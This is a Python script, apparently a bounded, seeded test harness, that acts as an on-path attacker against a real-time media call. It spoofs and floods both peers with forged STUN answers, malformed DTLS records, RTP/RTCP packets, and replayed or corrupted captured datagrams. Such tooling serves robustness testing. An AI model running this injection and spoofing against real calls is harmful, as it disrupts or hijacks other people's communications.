"""Somebody on the path of a call, without its keys: floods both ends of it with all that can be made up.

`attacker.py SEED RATE SECONDS ADDRESS:PORT ADDRESS:PORT`: the two ends. What it sends comes from the
other end's own address and from strangers' in turn. It listens in, and sends again what it overheard,
as it was and spoilt. Both its rate and its time are bounded.
"""
# SPDX-License-Identifier: MIT
import json
import os
import pathlib
import random
import socket
import struct
import sys
import time
import zlib

COOKIE = 0x2112a442
KEPT = 400         # datagrams that were overheard
TURN = 0.005       # s between two bursts
STRANGER = 40000   # the first port of those that do not take part
HOPS = 63          # by which we know what we said ourselves
LARGEST = 1440     # bytes of payload
EVERYTHING = 3     # ETH_P_ALL: what leaves as well


def tell(event, **more):
    print(json.dumps({"event": event, **more}), flush=True)


# --- what can be said without keys ---

def noise(rng, _heard):
    return bytes([rng.randrange(256)]) + rng.randbytes(rng.randrange(1472))


def attribute(kind, value, length=None):
    return struct.pack("!HH", kind, len(value) if length is None else length) + value + bytes(-len(value) % 4)


def stun_message(kind, identity, attributes, lie=0):
    """With a FINGERPRINT that is right: what has none is passed over at once."""
    body = b"".join(attributes)
    head = struct.pack("!HHI", kind, (len(body) + 8 + lie) & 0xffff, COOKIE) + identity
    return head + body + attribute(0x8028, struct.pack("!I", zlib.crc32(head + body) ^ 0x5354554e))


def stun(rng, _heard):
    """Binding requests and answers with the wrong key or none, roles that conflict, nominations."""
    wrong = [attribute(0x0006, rng.choice([b"", b"a:b", rng.randbytes(9), rng.randbytes(512)])),
             attribute(rng.choice([0x8029, 0x802a]), rng.randbytes(8)), attribute(0x0025, b""),
             attribute(0x0024, rng.randbytes(4)),
             attribute(0x0009, b"\0\0" + bytes([rng.choice([3, 4, 5]), rng.choice([0, 1, 87])])),
             attribute(0x0020, rng.randbytes(8)), attribute(rng.randrange(0x10000), rng.randbytes(40), 0xfffc)]
    said = rng.sample(wrong, rng.randrange(len(wrong) + 1))
    if rng.random() < 0.6:
        said.append(attribute(0x0008, rng.randbytes(20)))
    return stun_message(rng.choice([0x0001, 0x0101, 0x0111, 0x0011, 0x0003]), rng.randbytes(12), said,
                        rng.choice([0, 0, 0, 4, -4, 4000]))


def forged_answer(rng, heard):
    """An answer to a check that was overheard, with the right transaction and a key of our own."""
    checks = [data for data in heard if data[:2] == b"\0\1"]
    if not checks:
        return stun(rng, heard)
    said = [attribute(0x0020, rng.randbytes(8)), attribute(0x0008, rng.randbytes(20))]
    if rng.random() < 0.5:
        said = [attribute(0x0009, b"\0\0\4" + bytes([rng.choice([0, 1, 87])]))]
    return stun_message(rng.choice([0x0101, 0x0111]), rng.choice(checks)[8:20], said)


def record(rng, kind, epoch, body, length=None):
    return struct.pack("!BHHHIH", kind, 0xfefd, epoch, 0, rng.randrange(1 << 32),
                       len(body) if length is None else length) + body


def hello(rng, _heard):
    body = (b"\xfe\xfd" + rng.randbytes(32) + b"\0\0" + b"\0\4\xc0\x2b\xc0\x2f" + b"\1\0"
            + b"\0\x0b" + b"\0\x0e\0\7\0\4\0\7\0\1\0")
    size = struct.pack("!I", len(body))[1:]
    return record(rng, 22, 0, b"\1" + size + b"\0\0" + b"\0\0\0" + size + body)


def fragment(rng, _heard):
    """Pieces of handshake messages that do not fit or never become whole."""
    body = rng.randbytes(rng.randrange(200))
    head = bytes([rng.randrange(25)]) + rng.randbytes(3) + struct.pack("!H", rng.randrange(20)) + rng.randbytes(6)
    return record(rng, 22, rng.choice([0, 0, 1]), head + body)


def alert(rng, _heard):
    return record(rng, 21, rng.choice([0, 0, 1, 2]), bytes([rng.choice([1, 2]), rng.randrange(120)]))


def strange_record(rng, _heard):
    return record(rng, rng.randrange(20, 26), rng.choice([0, 1, 2, 7, 65535]), rng.randbytes(rng.randrange(1, 300)),
                  rng.choice([None, None, 65535]))


def rtp(rng, heard):
    """In clear, of one of a million senders, or of the one that was overheard."""
    real = [data[8:12] for data in heard if 128 <= data[0] < 192 and not 192 <= data[1] < 224]
    ssrc = rng.choice(real) if real and rng.random() < 0.3 else struct.pack("!I", rng.randrange(1000000))
    return bytes([0x80, rng.choice([0, 111])]) + rng.randbytes(6) + ssrc + rng.randbytes(rng.randrange(1200))


def rtcp(rng, _heard):
    count = rng.randrange(32)
    return struct.pack("!BBH", 0x80 | count, rng.choice([200, 201, 202, 203, 205, 206]),
                       rng.choice([7, 1, 65535, 0])) + rng.randbytes(28 + rng.randrange(400))


def again(rng, heard):
    return rng.choice(heard) if heard else noise(rng, heard)


def spoilt(rng, heard):
    data = bytearray(again(rng, heard))
    for _ in range(rng.randrange(1, 4)):
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    return bytes(data)


LIES = [noise, stun, forged_answer, hello, fragment, alert, strange_record, rtp, rtcp, again, again, spoilt, spoilt]


# --- sending and hearing ---

def checksum(data):
    """RFC 1071: the sum of 16-bit words, carried round, turned round."""
    return 0xffff - int.from_bytes(data + bytes(len(data) % 2), "big") % 0xffff


def packed(host):
    return socket.inet_pton(socket.AF_INET6 if ":" in host else socket.AF_INET, host)


def datagram(source, target, payload):
    """IP and UDP. The kernel fills in IPv4's checksum; its UDP needs none."""
    addresses, size = packed(source[0]) + packed(target[0]), 8 + len(payload)
    udp = struct.pack("!HHH", source[1], target[1], size)
    if len(addresses) == 8:
        return struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, 0, 0, HOPS, 17, 0) + addresses + udp + b"\0\0" + payload
    proof = checksum(addresses + struct.pack("!II", size, 17) + udp + b"\0\0" + payload) or 0xffff
    return struct.pack("!IHBB", 6 << 28, size, 17, HOPS) + addresses + udp + struct.pack("!H", proof) + payload


def scope_of(host):
    """The number of the interface that has this IPv6 address."""
    for line in pathlib.Path("/proc/net/if_inet6").read_text().splitlines():
        address, index, *_ = line.split()
        if bytes.fromhex(address) == packed(host):
            return int(index, 16)
    return 0


def overhear(ear, ends, heard):
    """Keeps what the two say to one another, the latest of it; not what we said."""
    while True:
        try:
            packet, (*_, kind, _, _) = ear.recvfrom(2048)
        except BlockingIOError:
            return
        start, hops, protocol = (20, 8, 9) if packet[0] == 0x45 else (40, 7, 6)
        if kind != socket.PACKET_OUTGOING or len(packet) <= start + 8 or packet[protocol] != 17:
            continue
        if set(struct.unpack_from("!HH", packet, start)) == {port for _, port in ends} and packet[hops] != HOPS:
            heard.append(packet[start + 8:])
            del heard[:-KEPT]


def attack(rng, rate, seconds, ends):
    six = ":" in ends[0][0]
    mouth = socket.socket(socket.AF_INET6 if six else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ear = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(EVERYTHING))
    ear.setblocking(False)
    way = {host: (host, 0, 0, scope_of(host)) if six else (host, 0) for host, _ in ends}
    heard, tried, lost, begun = [], 0, 0, time.monotonic()
    while (now := time.monotonic() - begun) < seconds:
        overhear(ear, ends, heard)
        while tried < min(rate * seconds, now * rate):
            source, target = rng.sample(ends, 2)
            if rng.random() < 0.4:
                source = (source[0], STRANGER + rng.randrange(1000))
            try:
                mouth.sendto(datagram(source, target, rng.choice(LIES)(rng, heard)[:LARGEST]), way[target[0]])
            except BlockingIOError:
                lost += 1
            tried += 1
        time.sleep(TURN)
    return tried - lost, len(heard)


def main():
    seed, rate, seconds = (int(number) for number in sys.argv[1:4])
    ends = [(host.strip("[]"), int(port)) for host, port in (end.rsplit(":", 1) for end in sys.argv[4:6])]
    os.nice(5)
    try:
        tell("ready")
        sent, heard = attack(random.Random(seed), rate, seconds, ends)
    except PermissionError as error:
        tell("unable", why=str(error))
        return 1
    tell("done", sent=sent, heard=heard)
    return 0


if __name__ == "__main__":
    sys.exit(main())
